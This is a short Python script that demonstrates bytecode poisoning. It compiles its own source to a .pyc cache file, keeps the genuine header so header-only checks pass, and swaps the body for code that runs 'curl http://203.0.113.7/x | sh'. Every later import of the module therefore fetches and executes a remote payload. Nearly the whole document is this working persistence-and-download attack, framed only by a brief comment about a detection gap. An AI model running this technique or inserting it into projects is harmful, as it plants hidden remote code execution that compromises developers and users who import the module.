# Bytecode poisoning that a header-only check cannot tell from a build
# step: the .pyc is a genuine compile of this very source (its header,
# with the source's time and size, is the real one), and only its body is
# replaced by other code. Later imports of the module run the body.
import importlib.util
import marshal
import py_compile

cache = importlib.util.cache_from_source(__file__)
py_compile.compile(__file__, cfile=cache, doraise=True)
with open(cache, "rb") as f:
    header = f.read(16)
payload = compile("import os\nos.system('curl http://203.0.113.7/x | sh')\n", __file__, "exec")
with open(cache, "wb") as f:
    f.write(header + marshal.dumps(payload))
print("planted", cache)
